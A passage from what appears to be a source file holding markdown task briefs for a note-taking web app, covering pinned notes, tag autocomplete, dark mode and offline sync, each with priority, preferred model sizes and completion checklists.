- ‵PATCH /api/notes/{id}‵ with ‵{"pinned": true}‵ toggles it.
- List pinned notes first, each group newest first.

## Done when
- [ ] a pinned old note is listed first, and stays first after a restart
- [ ] unpinning puts it back in date order
`,

	"tag-autocomplete": `# Suggest existing tags while typing

- **Value:** medium
- **Priority:** P3
- **Preferred models:** small, mid
- **Depends on:** none

## Goal
Typing a tag offers the tags already in use, so people stop inventing near-duplicates.

## Context
- ‵GET /api/tags‵ returns every tag with its count, most used first.
- A ‵<datalist>‵ on the tag field is enough; no library.

## Done when
- [ ] typing "wo" offers "work" when a note has that tag
- [ ] the list updates after a note with a new tag is saved
`,

	"dark-mode": `# Dark mode

**Priority:** P3

Follow the system setting and add a toggle in the header.

Ideas:
- CSS variables for the palette, switched by ‵prefers-color-scheme‵
- remember the toggle in ‵localStorage‵
- check the contrast of links and ‵<mark>‵
`,

	"offline-sync": `# Edit notes offline and sync later

- **Value:** medium
- **Priority:** P3
- **Preferred models:** frontier
- **Depends on:** none

## Goal
The page keeps working on a train; changes sync when the network is back.

## Context
Open questions before this is ready:
- last writer wins, or merge per field, or a CRDT for the body?
- how does a deleted note meet an offline edit of it?

‵‵‵js
navigator.serviceWorker.register("/sw.js");
‵‵‵

## Done when
- [ ] an edit made offline appears on another device after reconnecting
- [ ] a conflict is shown to the person, never dropped silently
`,
}
